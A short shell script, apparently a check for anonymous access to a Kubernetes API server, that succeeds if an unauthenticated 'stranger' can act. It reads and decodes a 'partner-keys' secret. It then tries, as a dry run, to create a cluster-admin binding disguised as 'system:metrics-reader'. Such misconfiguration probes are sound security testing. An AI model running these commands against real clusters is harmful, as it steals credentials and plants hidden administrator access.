# A stranger who can reach the API server and has no credential. Exit 0: a secret was read,
# or the stranger could have made itself an administrator for good.
won=no

echo "reading the partners' keys:"
if secret=$(curl -sSfk "https://$APISERVER/api/v1/namespaces/portal/secrets/partner-keys"); then
  echo "$secret" | jq -r '.data["harbour-line"]' | base64 -d
  echo
  won=yes
fi

echo "making a binding to come back by (dry run):"
if curl -sSfk -o /dev/null -X POST -H 'Content-Type: application/json' \
    -d '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"system:metrics-reader"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"stranger"}]}' \
    "https://$APISERVER/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?dryRun=All"; then
  won=yes
fi

[ "$won" = yes ]
